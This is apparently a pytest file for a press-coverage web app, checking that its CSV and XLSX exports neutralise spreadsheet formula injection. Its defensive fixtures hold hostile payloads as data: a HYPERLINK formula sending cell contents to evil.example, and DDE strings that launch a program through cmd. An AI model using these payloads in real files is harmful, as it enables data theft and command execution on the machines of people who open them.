"""Spreadsheet formula injection: exported files never hand a spreadsheet a formula.

Outlet names, campaign names, key messages, titles, authors and contact details come from the
web, from imports and from users. Each export a user can download (the dashboard's tables as
CSV and XLSX, the management workbook, the clip export task, the press file, the outlet
registry) is read back: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading apostrophe in CSV and as a quote-prefixed text cell
in XLSX, never as a formula; the values are still in the file (the check saw them).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from models import (
    Campaign,
    Contact,
    Coverage,
    CoverageCampaign,
    CoverageStatus,
    KeyMessage,
    Medium,
    Outlet,
    RateCard,
    RateKind,
    Scope,
    Tone,
)
from models.registry_io import export_registry, import_registry
from tests.conftest import csrf_token
from tests.webapp.test_jobs import started_task
from webapp.exports import FORMULA_STARTS

OUTLET = '=HYPERLINK("http://evil.example/?d="&A1;"Voir")'
CAMPAIGN = "+cmd|' /C calc'!A0"
MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "-2+3+cmd|' /C calc'!A0"
AUTHOR = "\t=1+1"
CONTACT = "\r=2+2"
UNIT = "=1+2"
SOURCE = "@source"
PERIOD = {"campaign": "", "from": "2026-01-01", "to": "2026-12-31", "status": "all"}
NUMBER = re.compile(r"-?\d[\d\s\u202f\u00a0]*([.,]\d+)?( ?%| pts)?")


@pytest.fixture
def settings(any_settings):
    return any_settings


@pytest.fixture
def poisoned(app):
    with app.extensions["retombees_sessions"].begin() as session:
        outlet = Outlet(
            name=OUTLET,
            medium=Medium.PRESS,
            scope=Scope.REGIONAL,
            audience=10_000,
            audience_unit=UNIT,
            audience_source=SOURCE,
            confidence="-risky",
            rate_cards=[RateCard(kind=RateKind.PAGE, price_eur=1000, source=UNIT)],
        )
        campaign = Campaign(
            slug="formules",
            name=CAMPAIGN,
            query='"bassin minier"',
            key_messages=[KeyMessage(label=MESSAGE, phrasings=["dix ans"])],
        )
        for i, status in enumerate((CoverageStatus.CONFIRMED, CoverageStatus.NEW), start=1):
            session.add(
                Coverage(
                    url=f"https://example.fr/{i}",
                    title=TITLE,
                    author=AUTHOR,
                    status=status,
                    medium=Medium.PRESS,
                    outlet=outlet,
                    relevant=True,
                    published_at=datetime(2026, 3, i, tzinfo=UTC),
                    reach=1000,
                    ave_eur=-50.0,  # a negative number stays a number
                    tone=Tone.NEGATIVE,
                    key_messages=[{"label": MESSAGE, "sentence": "Dix ans."}],
                    campaign_links=[CoverageCampaign(campaign=campaign)],
                )
            )
        session.add(Contact(first_name=CONTACT, last_name=OUTLET, email="lea@example.fr"))


def csv_cells(body: bytes, delimiter: str = ";") -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def check_csv(body: bytes, where: str, expected: tuple[str, ...], delimiter: str = ";") -> None:
    cells = csv_cells(body, delimiter)
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"
    for value in expected:  # there, behind its apostrophe
        assert "'" + value in cells, f"{where}: {value!r} is missing"


def check_xlsx(body: bytes, where: str, expected: tuple[str, ...]) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), where
    found = set()
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, f"{where}: {cell.coordinate} {cell.value!r}"
                    found.add(cell.value)
    missing = [v for v in expected if v.strip() not in {f.strip() for f in found}]
    assert not missing, f"{where}: {missing} missing"


TABLES = {
    "tally": (),
    "months": (),
    "scopes": (),
    "outlets": (OUTLET,),
    "messages": (MESSAGE,),
    "comparison": (),
}


@pytest.mark.parametrize("name", TABLES)
def test_dashboard_tables(poisoned, management_client, name):
    for fmt in ("csv", "xlsx"):
        response = management_client.get(f"/dashboard/export/{name}.{fmt}", query_string=PERIOD)
        assert response.status_code == 200, (name, fmt)
        if fmt == "csv":
            check_csv(response.data, name, TABLES[name])
        else:
            check_xlsx(response.data, name, TABLES[name])


def test_management_workbook(poisoned, management_client):
    query = {**PERIOD, "campaign": "formules"}
    response = management_client.get("/dashboard/report.xlsx", query_string=query)
    assert response.status_code == 200
    check_xlsx(response.data, "management report", (CAMPAIGN, MESSAGE))


def test_clip_export_task(app, poisoned, officer_client, inline_tasks):
    token = csrf_token(officer_client, "/coverage/?status=all")
    task_id = started_task(
        officer_client.post("/coverage/export?status=all", data={"csrf_token": token})
    )
    download = officer_client.get(f"/tasks/{task_id}/download")
    assert download.status_code == 200
    check_xlsx(download.data, "clip export", (OUTLET, TITLE, AUTHOR))


def test_press_file_csv(poisoned, agency_client):
    response = agency_client.get("/contacts/export.csv")
    assert response.status_code == 200
    check_csv(response.data, "press file", (OUTLET,))


def test_outlet_registry_csv(poisoned, officer_client):
    """Any logged-in user downloads the registry; an agency edits it and imports it back."""
    response = officer_client.get("/outlets/registry.csv")
    assert response.status_code == 200
    check_csv(response.data, "outlet registry", (OUTLET, UNIT, SOURCE), delimiter=",")


def test_the_registry_guard_does_not_change_the_values_on_import(app, poisoned, tmp_path):
    """Exported then imported back unchanged, the registry changes nothing: the apostrophe of
    the export is not taken for part of a name."""
    path = tmp_path / "registry.csv"
    sessions = app.extensions["retombees_sessions"]
    with sessions() as session:
        export_registry(session, path)
    with sessions.begin() as session:
        changes = import_registry(session, path)
    assert not changes.changed and not changes.errors, changes.lines()
    with sessions() as session:
        outlet = session.query(Outlet).one()
        assert (outlet.name, outlet.audience_unit, outlet.audience_source) == (OUTLET, UNIT, SOURCE)
        assert outlet.confidence == "-risky" and outlet.rate_cards[0].source == UNIT
